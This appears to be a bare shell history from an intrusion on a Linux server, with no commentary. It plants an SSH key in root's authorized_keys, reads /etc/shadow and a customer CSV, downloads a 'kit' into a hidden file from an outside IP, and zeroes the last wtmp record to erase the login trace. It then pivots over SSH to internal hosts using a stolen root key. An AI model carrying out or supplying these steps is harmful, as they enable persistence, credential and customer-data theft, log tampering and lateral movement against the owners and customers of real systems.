echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKe0WU+bVvKZBd8S3F/Z5xSH3n3D9kiiGpESue5jDvFN relay' >> /root/.ssh/authorized_keys
cat /etc/shadow
cat /srv/export/customers.csv
curl -s -o /dev/shm/.k http://198.51.100.200/kit
ls -la /root/.ssh
dd if=/dev/zero of=/var/log/wtmp bs=384 count=1 conv=notrunc seek=$(($(stat -c %s /var/log/wtmp)/384-1))
ssh -o StrictHostKeyChecking=no svc-batch@10.77.0.12
ssh -o StrictHostKeyChecking=no svc-batch@10.77.0.12
ssh -o StrictHostKeyChecking=no -i /root/.ssh/backup_ed25519 root@10.77.0.13
exit
w
curl -s http://198.51.100.200/next
exit
